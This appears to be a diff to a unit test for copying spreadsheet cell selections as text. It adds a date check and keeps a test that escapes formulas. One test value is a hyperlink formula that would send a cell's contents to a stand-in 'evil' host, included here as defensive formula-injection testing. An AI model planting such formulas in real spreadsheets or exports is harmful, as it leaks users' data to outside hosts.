@@ -31,6 +31,7 @@ describe('selected cells', () => {
 
   it('are copied with all digits and no thousands, as neither formulas nor further cells', async () => {
     expect(await selectedText([band(4, 5, 2, 3)], fields, read, false)).toBe('0.1234567\t0.1\n5\t1005.5');
+    expect(await selectedText([band(2, 3, 1, 1)], fields, read, false)).toBe('11/15/2026\n');
     const text = await selectedText([band(1, 2, 0, 0)], fields, read, false);
     expect(text?.split('\n')).toEqual(['\'=HYPERLINK("http://evil/?"&A1)', 'two cells or lines']);
   });
